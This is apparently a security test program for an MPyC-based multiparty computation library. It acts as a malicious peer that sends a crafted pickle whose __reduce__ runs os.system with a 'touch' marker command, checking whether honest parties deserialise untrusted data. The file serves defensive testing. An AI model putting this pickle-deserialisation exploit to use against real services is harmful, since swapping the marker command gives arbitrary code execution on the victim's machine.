"""A compromised party: joins an mpclab run and sends a pickle that would run a command.

    python tests/programs/evil_peer.py -P ... -I 1 MARKER_PATH

It connects like any MPyC party and, as its answer in the agreement round (the first
transfer), sends a pickle whose __reduce__ names os.system.  An mpclab party that unpickled
it would create MARKER_PATH.
"""

import os
import pickle
import sys
import types

from mpyc import runtime
from mpyc.runtime import mpc


class Evil:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (os.system, (f'touch {self.path}',))


async def main(path):
    await mpc.start()
    # The first transfer is the agreement round: answer it with the crafted pickle.
    evil = pickle.dumps(Evil(path))
    runtime.pickle = types.SimpleNamespace(dumps=lambda obj: evil, loads=lambda data: None)
    try:
        await mpc.transfer(None)
    finally:
        os._exit(0)


if __name__ == '__main__':
    mpc.run(main(sys.argv[1]))
